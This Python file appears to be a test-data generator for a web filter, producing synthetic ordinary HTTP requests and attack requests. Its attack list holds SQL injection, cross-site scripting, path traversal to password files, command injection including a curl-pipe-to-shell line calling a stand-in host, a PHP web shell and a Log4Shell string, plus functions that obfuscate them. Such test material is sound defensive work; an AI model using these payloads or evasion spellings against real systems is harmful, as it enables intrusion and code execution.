# SPDX-License-Identifier: Apache-2.0
"""Requests made up by a seeded generator: what ordinary people and programs send, and attacks in many spellings.

benign(seed, n) yields (kind, bytes); attacks(seed, n) yields (kind, bytes). The same seed gives the same requests.
"""
import base64
import json
import random
from urllib.parse import quote, quote_plus, urlencode

WORDS = {
    'en': 'garden trowel steel handle order delivery tomorrow weather family kitchen window please thank great quality small large '
          'station ticket market bread coffee select update from where table group by union of workers having a good time insert coin drop off'.split(),
    'de': 'Größe Straße schön Müller Frühstück bitte danke Lieferung Rechnung Fahrrad Äpfel Öl über zwölf Haus Küche Wetter Bahnhof'.split(),
    'fr': "l'été où ça va très bien café crème naïve Noël garçon aujourd'hui c'est d'accord livraison maison fenêtre".split(),
    'es': 'mañana niño señor ¿dónde está la biblioteca? ¡qué bien! corazón año pingüino envío casa cocina'.split(),
    'pl': 'zażółć gęślą jaźń dziękuję proszę łódka światło źródło miasto kuchnia okno'.split(),
    'ru': 'Москва привет спасибо пожалуйста заказ доставка погода семья кухня окно хорошо завтра'.split(),
    'el': 'καλημέρα ευχαριστώ παρακαλώ σπίτι κουζίνα παράθυρο αύριο καιρός'.split(),
    'tr': 'günaydın teşekkürler lütfen şehir çiçek ağaç ışık mutfak pencere yarın'.split(),
    'ar': 'مرحبا شكرا من فضلك بيت مطبخ نافذة غدا الطقس عائلة'.split(),
    'hi': 'नमस्ते धन्यवाद कृपया घर रसोई खिड़की कल मौसम परिवार'.split(),
    'zh': '今天 天气 很好 我们 去 公园 谢谢 请 厨房 窗户 明天 家庭'.split(),
    'ja': 'おはよう ございます ありがとう お願いします 家 台所 窓 明日 天気 家族'.split(),
}
AGENTS = [
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Mobile Safari/537.36',
    'ShopApp/4.2.1 (iOS 17.6; iPhone15,2)', 'okhttp/4.12.0',
]
FIRST = "Anna Jörg Zoë O'Brien Søren José Łukasz Иван 明 Fatima D'Angelo Jean-Luc".split()
PATHS = '/ /shop /shop/garden/tools /account /account/orders/1042 /blog/2024/11/how-to-select-a-trowel /api/v1/items /search /wiki/Main_Page /forum/topic/77'.split()
ASSETS = '/assets/css/main.3f2a1b.css /js/app.js /img/logo@2x.png /fonts/inter-var.woff2 /favicon.ico /media/video%20intro.mp4 /static/img/caf%C3%A9.jpg'.split()


class Maker:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def words(self, least, most, language=None):
        language = language or self.r.choice(list(WORDS))
        return ' '.join(self.r.choice(WORDS[language]) for _ in range(self.r.randint(least, most)))

    def sentence(self, language=None):
        text = self.words(4, 12, language)
        return text[:1].upper() + text[1:] + self.r.choice(['.', '.', '!', '?', ' :)', '...'])

    def paragraph(self):
        language = self.r.choice(list(WORDS))
        extra = ['', '', ' (see page 3)', ' - really', ' 50% off', ' 3 < 4', ' R&D', ' 12.50 EUR', ' #42', ' "quoted"', ' 10:30', ' a/b', ' it\'s 5 o\'clock', '; and so on']
        return ' '.join(self.sentence(language) + self.r.choice(extra) for _ in range(self.r.randint(1, 4)))

    def email(self):
        return f'{self.r.choice(["anna", "j.doe", "info+shop", "m_k"])}{self.r.randint(1, 99)}@example.{self.r.choice(["com", "org", "de"])}'

    def token(self):
        return base64.urlsafe_b64encode(self.r.randbytes(self.r.randint(12, 48))).decode().rstrip('=')

    def uuid(self):
        h = self.r.randbytes(16).hex()
        return f'{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}'

    def value(self):
        return self.r.choice([
            lambda: self.words(1, 4), self.sentence, self.email, self.token, self.uuid, lambda: str(self.r.randint(0, 10**6)),
            lambda: f'{self.r.randint(1, 999)}.{self.r.randint(0, 99):02}', lambda: f'2024-{self.r.randint(1, 12):02}-{self.r.randint(1, 28):02}T10:00:00Z',
            lambda: f'+49 30 {self.r.randint(10**5, 10**7)}', lambda: self.r.choice(FIRST), lambda: '', lambda: 'true',
            lambda: f'https://www.example.com/{self.words(1, 1, "en")}?id={self.r.randint(1, 99)}', lambda: f'#{self.r.randbytes(3).hex()}'])()

    def cookies(self):
        jar = {'session': self.r.randbytes(16).hex(), 'theme': self.r.choice(['light', 'dark']), '_ga': f'GA1.2.{self.r.randint(10**8, 10**9)}.1718000000',
               'lang': self.r.choice(['en', 'de', 'fr']), 'cart': str(self.r.randint(0, 30)), 'consent': 'yes', '_pk_id.1.abcd': self.r.randbytes(8).hex() + '.1718.',
               'csrftoken': self.token()}
        return '; '.join(f'{k}={jar[k]}' for k in self.r.sample(list(jar), self.r.randint(0, 6)))

    def request(self, method, target, kind=None, body=b'', extra=()):
        head = [f'{method} {target} HTTP/1.1', 'Host: www.example.com', f'User-Agent: {self.r.choice(AGENTS)}',
                'Accept: ' + self.r.choice(['text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', '*/*', 'application/json']),
                'Accept-Language: ' + self.r.choice(['en-GB,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.5', 'fr']), 'Accept-Encoding: gzip, deflate, br']
        if self.r.random() < 0.6:
            head.append('Referer: https://www.example.com' + self.r.choice(PATHS))
        jar = self.cookies()
        if jar:
            head.append('Cookie: ' + jar)
        head += extra
        if kind:
            head += [f'Content-Type: {kind}', f'Content-Length: {len(body)}']
        return '\r\n'.join(head).encode() + b'\r\n\r\n' + body

    # ---- kinds of ordinary requests

    def page(self):
        query = urlencode({self.r.choice(['page', 'sort', 'q', 'utm_source', 'filter[price][gte]', 'ids[]', 'lang', 'ref']): self.value() for _ in range(self.r.randint(0, 4))})
        return self.request('GET', self.r.choice(PATHS) + ('?' + query if query else ''))

    def asset(self):
        return self.request('GET', self.r.choice(ASSETS) + self.r.choice(['', '?v=' + self.token()[:8], f'?t={self.r.randint(10**9, 2 * 10**9)}']))

    def search(self):
        text = self.words(1, 6) + self.r.choice(['', '', ' -used', ' "exact phrase"', ' OR bike', ' 10%', ' & more', "'s"])
        return self.request('GET', '/search?q=' + self.r.choice([quote_plus, quote])(text) + f'&page={self.r.randint(1, 9)}')

    def form(self):
        names = ['name', 'email', 'street', 'city', 'zip', 'phone', 'comment', 'newsletter', 'csrf_token', 'address[line1]', 'birthday', 'company']
        fields = [(n, self.value() if n != 'comment' else self.paragraph()) for n in self.r.sample(names, self.r.randint(2, 10))]
        return self.request('POST', '/account/address', 'application/x-www-form-urlencoded', urlencode(fields).encode())

    def comment(self):
        text = '\r\n\r\n'.join(self.paragraph() for _ in range(self.r.randint(1, 4)))
        return self.request('POST', '/forum/reply', 'application/x-www-form-urlencoded', urlencode({'topic': '77', 'text': text, 'token': self.token()}).encode())

    def rich_text(self):
        tags = ['p', 'strong', 'em', 'ul', 'li', 'blockquote', 'h2']
        html = ''.join(f'<{t}>{self.sentence()}</{t}>' for t in self.r.choices(tags, k=self.r.randint(1, 6)))
        if self.r.random() < 0.3:
            html += f'<a href="https://www.example.com/p/{self.r.randint(1, 99)}">{self.words(1, 3)}</a>'
        if self.r.random() < 0.5:
            return self.request('POST', '/cms/save', 'application/x-www-form-urlencoded', urlencode({'title': self.words(2, 5), 'html': html}).encode())
        return self.request('PUT', '/api/v1/posts/7', 'application/json', json.dumps({'title': self.words(2, 5), 'html': html}, ensure_ascii=False).encode())

    def tree(self, depth):
        if depth == 0:
            return self.r.choice([self.value, lambda: self.r.randint(0, 9999), lambda: self.r.random() < 0.5, lambda: None, self.paragraph])()
        if self.r.random() < 0.3:
            return [self.tree(depth - 1) for _ in range(self.r.randint(0, 4))]
        keys = ['id', 'name', 'price', 'tags', 'address', 'items', 'note', 'createdAt', 'user_id', 'options', 'data', 'attributes']
        return {k: self.tree(depth - 1) for k in self.r.sample(keys, self.r.randint(1, 5))}

    def api(self):
        return self.request(self.r.choice(['POST', 'POST', 'PUT']), '/api/v1/items', 'application/json', json.dumps(self.tree(3), ensure_ascii=self.r.random() < 0.5).encode(),
                            [f'Authorization: Bearer {self.token()}', 'X-Requested-With: XMLHttpRequest'])

    def graphql(self):
        query = 'query Item($id: ID!) { item(id: $id) { name price { amount currency } reviews(first: 5) { text author { name } } } }'
        return self.request('POST', '/graphql', 'application/json', json.dumps({'operationName': 'Item', 'query': query, 'variables': {'id': str(self.r.randint(1, 999))}}).encode())

    def upload(self):
        magic = self.r.choice([(b'\x89PNG\r\n\x1a\n', 'image/png', 'photo.png'), (b'\xff\xd8\xff\xe0', 'image/jpeg', 'garden-1.jpg'), (b'%PDF-1.7\n', 'application/pdf', 'Rechnung 2024.pdf'), (b'PK\x03\x04', 'application/zip', 'report.docx')])
        parts = b''.join(f'--Xy7\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n'.encode() + self.value().encode() + b'\r\n' for n in ('title', 'album', 'alt'))
        parts += f'--Xy7\r\nContent-Disposition: form-data; name="file"; filename="{magic[2]}"\r\nContent-Type: {magic[1]}\r\n\r\n'.encode()
        return self.request('POST', '/upload', 'multipart/form-data; boundary=Xy7', parts + magic[0] + self.r.randbytes(self.r.randint(100, 8000)) + b'\r\n--Xy7--\r\n')

    def login(self):
        word = self.r.choice(['correct horse battery', "p@ss'w0rd!", 'Tr0ub4dor&3', 'hunter2', '(secret)#1', 'Straße99'])
        return self.request('POST', '/login', 'application/x-www-form-urlencoded', urlencode({'user': self.email(), 'password': word, 'next': '/account', 'csrf': self.token()}).encode())

    def beacon(self):
        return self.request('POST', '/collect', 'text/plain', json.dumps({'e': 'view', 't': self.r.randint(1, 10**6), 'u': 'https://www.example.com/shop'}).encode())

    def oauth(self):
        return self.request('GET', f'/oauth/callback?code={self.token()}&state={self.uuid()}&scope=openid%20profile%20email')


KINDS = (('page', 16), ('asset', 16), ('search', 14), ('form', 12), ('comment', 8), ('rich_text', 5), ('api', 12), ('graphql', 3), ('upload', 5), ('login', 4), ('beacon', 2), ('oauth', 3))


def benign(seed, n):
    maker = Maker(seed)
    names, weights = zip(*KINDS)
    for _ in range(n):
        kind = maker.r.choices(names, weights)[0]
        yield kind, getattr(maker, kind)()


ATTACKS = [
    "1' or '1'='1", '1 union select password from users', "'; drop table users-- ", '1 and sleep(5)', "admin'/*", '1;waitfor delay "0:0:5"',
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '<iframe src=//x.test>',
    '../../../../etc/passwd', '/etc/shadow', '..\\..\\windows\\win.ini', '/proc/self/environ', '.htaccess',
    ';cat /etc/passwd', '$(curl http://x.test/a|sh)', '| whoami', '`id`', '; ls -la', '&& ping -c 1 x.test', 'powershell -enc AAAA', "c''at /e'tc'/pa\\sswd",
    '<?php system($_GET["c"]); ?>', 'php://filter/resource=index.php', 'phpinfo()', 'O:8:"stdClass":0:{}', '${jndi:ldap://x.test/a}', 'java.lang.Runtime',
    'http://192.0.2.1/shell.txt?', '\r\nSet-Cookie: a=b', '() { :; }; /bin/id', '{{7*7}}', 'require("child_process")', '__proto__[a]=b', '*)(uid=*))(|(uid=*',
]


def spell(r, text):
    """The attack in one of many spellings that mean the same to somebody."""
    for _ in range(r.randint(0, 2)):
        text = r.choice([
            lambda t: t, str.upper, str.swapcase, lambda t: ''.join(r.choice((c.upper(), c.lower())) for c in t),
            lambda t: t.replace(' ', '/**/'), lambda t: t.replace(' ', '\t'), lambda t: t.replace(' ', '  '),
            lambda t: ''.join(f'&#{ord(c)};' if r.random() < 0.3 else c for c in t), lambda t: ''.join(f'\\x{ord(c):02x}' if ord(c) < 256 and r.random() < 0.2 else c for c in t),
            lambda t: quote(t), lambda t: t.replace('/', '/./'), lambda t: 'x' * r.randint(0, 200) + ' ' + t, lambda t: t + '\0', lambda t: base64.b64encode(t.encode()).decode(),
        ])(text)
    return text


def attacks(seed, n):
    maker = Maker(seed)
    r = maker.r
    for _ in range(n):
        text = spell(r, r.choice(ATTACKS))
        if r.random() < 0.3:
            text = maker.words(1, 4, 'en') + ' ' + text
        part = f'--Bx\r\nContent-Disposition: form-data; name="q"\r\n\r\n{text}\r\n--Bx--\r\n'
        xml = text.replace('&', '&amp;').replace('<', '&lt;').replace('"', '&quot;').replace('\0', '')
        place, make = r.choice([
            ('query', lambda: maker.request('GET', '/page?q=' + quote_plus(text) + '&b=1')),
            ('name', lambda: maker.request('GET', '/page?' + quote_plus(text) + '=1')),
            ('path', lambda: maker.request('GET', '/page/' + quote(text, safe='/'))),
            ('form', lambda: maker.request('POST', '/page', 'application/x-www-form-urlencoded', b'a=1&q=' + quote_plus(text).encode())),
            ('json', lambda: maker.request('POST', '/page', 'application/json', json.dumps({'a': {'b': [1, text]}}).encode())),
            ('xml', lambda: maker.request('POST', '/page', 'text/xml', f'<a><b x="1">{xml}</b></a>'.encode())),
            ('multipart', lambda: maker.request('POST', '/page', 'multipart/form-data; boundary=Bx', part.encode())),
            ('cookie', lambda: maker.request('GET', '/page', extra=['Cookie: q=' + quote(text, safe='')])),
            ('agent', lambda: maker.request('GET', '/page', extra=['X-Note: ' + text.replace('\r', ' ').replace('\n', ' ').replace('\0', ' ')])),
        ])
        yield place, make()
